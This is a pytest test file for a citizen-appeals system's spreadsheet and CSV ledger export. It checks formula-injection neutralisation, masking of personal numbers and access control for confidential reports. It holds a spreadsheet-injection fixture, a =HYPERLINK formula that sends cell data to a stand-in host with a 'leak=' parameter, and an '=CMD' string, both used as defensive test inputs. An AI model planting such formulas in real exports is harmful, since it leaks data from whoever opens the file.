"""Every cell of the ledger export is safe to open: formulas arrive as text, numbers stay
numbers, phone and ID numbers inside free text are masked for readers who see masked numbers, and
confidential reports (举报) never reach a reader who could not open them in the app."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from stdnum.cn import ric

from kuaiban.conftest import user
from kuaiban.core import spreadsheet
from kuaiban.metrics.excel import LEDGER_HEADERS

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://x/?leak="&C2&D2,"点击查看")'
PHONE = "13812342222"
ID_BASE = "11010519880605123"  # 北京市朝阳区, born 1988-06-05
ID_NUMBER = ID_BASE + ric.calc_check_digit(ID_BASE)
CONTENT = f"我的电话{PHONE}，身份证号{ID_NUMBER}，小区门口路灯坏了一个月，晚上出行不安全。"


def register(api: Any, who: str = "operator", **changes: Any) -> str:
    body = {
        "channel": "hotline",
        "kind": "complaint",
        "title": INJECTION,
        "content": CONTENT,
        "submitter": {"name": "赵文静", "phone": PHONE, "id_number": ID_NUMBER},
        **changes,
    }
    r = api(who).post("/appeals", body)
    assert r.status == 201, r.body
    return str(r.body["number"])


def export(who: str) -> dict[str, dict[str, Any]]:
    """The ledger export as ``who`` downloads it: number → {header: cell}."""
    c = Client()
    c.force_login(user(who))
    r = c.get(reverse("metrics:ledger_export"))
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    rows = list(ws.iter_rows())
    headers = [cell.value for cell in rows[0]]
    assert tuple(headers) == LEDGER_HEADERS
    return {str(row[0].value): dict(zip(headers, row, strict=True)) for row in rows[1:]}


def test_a_formula_title_arrives_as_text_for_every_reader(api: Any) -> None:
    number = register(api)
    for who in ("supervisor", "leader", "admin", "operator"):
        cell = export(who)[number]["标题"]
        assert cell.value == INJECTION  # reads the same to a person: nothing added
        assert cell.data_type == "s" and cell.quotePrefix is True  # not a formula ("f")


def test_numbers_stay_numbers(api: Any) -> None:
    number = register(api, title="路灯不亮")
    row = export("leader")[number]
    assert row["退单次数"].data_type == "n" and row["退单次数"].value == 0
    assert row["受理时间"].is_date
    assert row["标题"].data_type == "s" and not row["标题"].quotePrefix


def test_free_text_is_masked_for_readers_of_masked_numbers(api: Any) -> None:
    number = register(api, address=f"东门村12号（电话{PHONE}）")
    leader = export("leader")[number]
    for header in ("诉求内容", "地址"):
        text = str(leader[header].value)
        assert PHONE not in text and ID_NUMBER not in text, header
        assert "*" * len(PHONE) in text
    assert "小区门口路灯坏了一个月" in str(leader["诉求内容"].value)
    assert leader["联系电话"].value == "138****2222"
    assert ID_NUMBER not in str(leader["身份证号"].value)
    # The supervisor (who sees full numbers in the app) gets them in the export too.
    full = export("supervisor")[number]
    assert full["诉求内容"].value == CONTENT and full["联系电话"].value == PHONE


def test_reports_never_reach_a_reader_who_cannot_open_them(api: Any) -> None:
    report = register(api, "supervisor", kind="report", title="举报某单位违规收费")
    complaint = register(api, title="路灯不亮")
    for who in ("leader", "admin", "operator"):
        rows = export(who)
        assert complaint in rows and report not in rows, who
    assert report in export("supervisor")
    # A handler sees only its own unit's appeals: neither, until one is dispatched to it.
    assert report not in export("handler-zjj")


@pytest.mark.parametrize(
    "text", [INJECTION, "+86 138", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "=1+1"]
)
def test_the_cell_writer_neutralises_every_formula_prefix(text: str) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("诉求")
    spreadsheet.append(ws, [text, 12, 3.5, "正常文字"])
    out = io.BytesIO()
    wb.save(out)
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    # (XML reads a carriage return back as a line feed; the cell is text either way.)
    written = text.replace("\r", "\n")
    assert (cells[0].value, cells[0].data_type, cells[0].quotePrefix) == (written, "s", True)
    assert [c.data_type for c in cells[1:]] == ["n", "n", "s"]
    buffer = io.StringIO()
    spreadsheet.csv_writerow(csv.writer(buffer), [text, 12])
    first, second = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert first == "'" + text and second == "12"


def test_characters_a_workbook_refuses_are_dropped_not_500() -> None:
    wb = Workbook()
    ws = wb.active
    spreadsheet.append(ws, ["暖气\x01不热\x1b", "=A1\x02"])
    out = io.BytesIO()
    wb.save(out)  # openpyxl would raise IllegalCharacterError on the raw text
    cells = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    assert [c.value for c in cells] == ["暖气不热", "=A1"]
    assert cells[1].data_type == "s"


def test_the_export_lists_each_co_unit_s_part(api: Any) -> None:
    number = register(api, title="人民路路面坑洼", content=f"路面坑洼，联系电话{PHONE}。")
    r = api("operator").post(f"/appeals/{number}/dispatch", {"unit": "jtj", "co_units": ["cgj"]})
    assert r.status == 200, r.body
    opinion = f'=CMD("x") 已清运建筑垃圾，经办人电话{PHONE}。'
    body = {"result": "resolved", "text": opinion}
    r = api("handler-cgj").post(f"/appeals/{number}/assist", body)
    assert r.status == 200, r.body

    def parts(who: str) -> list[dict[str, Any]]:
        c = Client()
        c.force_login(user(who))
        r = c.get(reverse("metrics:ledger_export"))
        ws = load_workbook(io.BytesIO(r.content))["协办情况"]
        rows = list(ws.iter_rows())
        headers = [cell.value for cell in rows[0]]
        return [dict(zip(headers, row, strict=True)) for row in rows[1:]]

    [row] = parts("supervisor")
    assert (row["诉求编号"].value, row["协办单位"].value) == (number, "城管局")
    assert row["协办状态"].value == "已答复" and row["是否按期"].value == "是"
    assert row["协办时限"].is_date and row["答复时间"].is_date
    assert row["协办意见"].value == opinion and row["协办意见"].quotePrefix is True
    [row] = parts("leader")
    assert PHONE not in str(row["协办意见"].value)
